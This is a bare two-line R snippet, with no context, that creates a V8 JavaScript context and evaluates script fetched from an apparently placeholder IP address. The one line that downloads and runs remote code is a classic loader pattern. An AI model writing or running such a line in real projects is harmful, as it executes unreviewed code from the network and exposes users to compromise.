ct <- V8::v8()
ct$eval(readLines("http://203.0.113.4/x.js"))
